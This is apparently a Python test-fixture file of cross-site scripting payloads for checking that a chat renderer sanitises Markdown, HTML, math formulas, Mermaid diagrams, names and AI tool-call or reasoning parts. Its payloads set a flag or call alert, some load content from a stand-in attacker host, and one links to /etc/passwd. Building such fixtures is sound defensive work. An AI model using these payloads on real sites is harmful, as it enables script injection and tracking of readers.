"""What somebody might write who wants a script to run, or a page to call home, in the browser of whoever reads it.

Each entry sets `window.__xss`, calls `alert`, or asks another host, if ever it gets the chance.
"""

from __future__ import annotations

from typing import Any

EVIL = "https://evil.example"
RUN = "window.__xss=1"

_DATA_PAGE = "data:text/html,<script>alert(1)</script>"

TEXTS: tuple[str, ...] = (
    # HTML in Markdown
    f"<script>{RUN}</script>",
    f"<ScRiPt src='{EVIL}/a.js'></sCrIpT>",
    f"<img src=x onerror='{RUN}'>",
    f"<img src='{EVIL}/pixel.gif' alt='a pixel'>",
    f"<svg onload='{RUN}'></svg>",
    f"<svg><script>{RUN}</script></svg>",
    f"<svg><animate onbegin='{RUN}' attributeName=x dur=1s>",
    f"<svg><use href='{EVIL}/a.svg#a'></use></svg>",
    f"<svg><foreignObject><iframe srcdoc='<script>parent.{RUN}</script>'></iframe></foreignObject></svg>",
    f"<iframe src='javascript:parent.{RUN}'></iframe>",
    f"<iframe srcdoc='<script>parent.{RUN}</script>'></iframe>",
    f"<object data='{_DATA_PAGE}'></object>",
    f"<embed src='{EVIL}/a.swf'>",
    f"<video><source onerror='{RUN}'></video>",
    f"<video poster='{EVIL}/poster.png'></video>",
    f"<audio src='{EVIL}/a.mp3' autoplay></audio>",
    f"<details open ontoggle='{RUN}'><summary>a</summary></details>",
    f"<input autofocus onfocus='{RUN}'>",
    f"<body onload='{RUN}'>",
    f"<style>@import '{EVIL}/a.css'; body {{ background: url({EVIL}/b.png) }}</style>",
    f"<link rel=stylesheet href='{EVIL}/a.css'><link rel=prefetch href='{EVIL}/p'>",
    f"<meta http-equiv=refresh content='0;url={EVIL}'>",
    f"<base href='{EVIL}/'>",
    f"<form action='{EVIL}'><button formaction='javascript:{RUN}'>Press</button></form>",
    f"<div style='background:url({EVIL}/c.png)'>styled</div>",
    f"<marquee onstart='{RUN}'>a</marquee>",
    f"<template shadowrootmode=open><script>{RUN}</script></template>",
    f"<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=x onerror={RUN}&gt;'>",
    f"<noscript><p title='</noscript><img src=x onerror={RUN}>'>",
    f"<a id=forms name=body href='javascript:{RUN}'>a</a><img name=getElementById>",
    f"<x onclick='{RUN}' tabindex=1 id=x>#x</x>",
    f"<!--><img src=x onerror='{RUN}'>-->",
    f"<![CDATA[<img src=x onerror='{RUN}'>]]>",
    f"<plaintext><script>{RUN}</script>",
    # links
    f"[a](javascript:{RUN})",
    f"[a](JaVaScRiPt:{RUN})",
    f"[a](java\tscript:{RUN})",
    f"[a](&#106;avascript:{RUN})",
    f"[a](\x01javascript:{RUN})",
    f"[a](javascript&colon;{RUN})",
    f"[a](<javascript:{RUN}>)",
    f"[a]: javascript:{RUN}\n\n[a]",
    f"<javascript:{RUN}>",
    f"[a](vbscript:{RUN})",
    f"[a]({_DATA_PAGE.replace(' ', '%20')})",
    "[a](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "[a](blob:https://evil.example/1)",
    "[a](file:///etc/passwd)",
    "[a](view-source:x) [b](intent://x) [c](filesystem:x) [d](about:blank) [e](tel:1) [f](ftp://evil.example/)",
    f"[a](//evil.example/x 'onmouseover={RUN}')",
    f'[a](https://evil.example/" onmouseover="{RUN})',
    f'{EVIL}/"onmouseover="{RUN}',
    f'[![a](x" onerror="{RUN})](javascript:{RUN})',
    f"- [ ] <img src=x onerror={RUN}>\n- [x] [a](javascript:{RUN})",
    f"| a |\n|---|\n| <img src=x onerror={RUN}> [a](javascript:{RUN}) |",
    f"Note[^1]\n\n[^1]: <img src=x onerror={RUN}> [a](javascript:{RUN})",
    f"# <img src=x onerror={RUN}>\n\n> <script>{RUN}</script>",
    # images
    f"![a]({EVIL}/pixel.gif)",
    "![a](http://evil.example/pixel.gif)",
    "![a](//evil.example/pixel.gif)",
    f"![a](javascript:{RUN})",
    f"![a](data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='{RUN}'/>)",
    "![a](data:image/svg+xml;base64,PHN2ZyB4bWxucz0iaHR0cDovL3d3dy53My5vcmcvMjAwMC9zdmciIG9ubG9hZD0iYWxlcnQoMSkiLz4=)",
    f"![a][ref]\n\n[ref]: {EVIL}/pixel.png",
    "![a](blob:https://evil.example/1) ![b](ftp://evil.example/a.png) ![c](\\\\evil.example\\a.png)",
    # code, which looks like something else
    f"```html\n<script>{RUN}</script><img src=x onerror={RUN}>\n```",
    f"```<img/src=x/onerror={RUN}>\ncode\n```",
    f'```js title="<img src=x onerror={RUN}>"\n{RUN}\n```',
    f"`<img src=x onerror={RUN}>`",
    # formulas
    f"$\\href{{javascript:{RUN}}}{{a}}$",
    f"$$\\url{{javascript:{RUN}}}$$",
    f"$\\includegraphics{{{EVIL}/a.png}}$",
    f"$\\htmlData{{onclick={RUN}}}{{a}}$ $\\htmlStyle{{background:url({EVIL}/k.png)}}{{a}}$",
    f"$\\text{{<img src=x onerror={RUN}>}}$",
    "$$\\def\\a{\\a\\a}\\a$$",
    # diagrams
    f'```mermaid\ngraph TD\n A["<img src=x onerror=\'{RUN}\'>"] --> B["<script>{RUN}</script>"]\n```',
    f'```mermaid\ngraph TD\n A --> B\n click A "javascript:{RUN}"\n click B call alert(1)\n```',
    '```mermaid\n%%{init: {"securityLevel": "loose", "htmlLabels": true}}%%\n'
    f'graph TD\n A["<img src=x onerror={RUN}>"]\n```',
    f"```mermaid\ngraph TD\n A[\"<img src='{EVIL}/m.png'>\"] --> B\n style A fill:url({EVIL}/f.svg)\n```",
    f'```mermaid\n%%{{init: {{"themeCSS": "@import url({EVIL}/t.css); '
    f'* {{ background: url({EVIL}/t.png) }}"}}}}%%\ngraph TD\n A-->B\n```',
    f"```mermaid\nsequenceDiagram\n A->>B: <img src=x onerror={RUN}>\n Note over A: <iframe src=javascript:{RUN}>\n```",
    f'```mermaid\ngraph TD\n A@{{ img: "{EVIL}/n.png", label: "a" }}\n```',
)

NAMES: tuple[str, ...] = (
    f"<img src=x onerror='{RUN}'>",
    f"</title><script>{RUN}</script>",
    f'"><svg onload={RUN}>',
    f"' onmouseover='{RUN}",
    f"javascript:{RUN}",
    f"{{{{constructor.constructor('{RUN}')()}}}}",
    f"&lt;img src=x onerror={RUN}&gt;",
    f"\u202e<script>{RUN}</script>",
)
"""Titles, tags, names of projects, files, models, tools and branches."""

HOSTILE: dict[str, Any] = {
    "__proto__": {"innerHTML": f"<img src=x onerror={RUN}>"},
    "dangerouslySetInnerHTML": {"__html": f"<img src=x onerror={RUN}>"},
    f"<img src=x onerror={RUN}>": [f"<script>{RUN}</script>", f"javascript:{RUN}", EVIL],
    "type": "img",
    "props": {"src": f"{EVIL}/a.png"},
}
"""What a tool is asked, or answers."""


def parts(name: str, blob: str) -> list[dict[str, Any]]:
    """A part of each other kind."""
    return [
        {"type": "reasoning", "text": f"{name} <script>{RUN}</script> [a](javascript:{RUN})"},
        {"type": "tool_call", "call_id": name, "name": name, "arguments": HOSTILE},
        {"type": "data", "name": name, "data": HOSTILE},
        {
            "type": "error",
            "code": name[:50],
            "message": f"{name} <img src={EVIL}/e.png onerror={RUN}>",
        },
        {"type": "file", "blob": blob, "media_type": "text/html", "name": f"{name}.html"},
        {"type": "image", "blob": blob, "media_type": "image/svg+xml", "name": f"{name}.svg"},
    ]
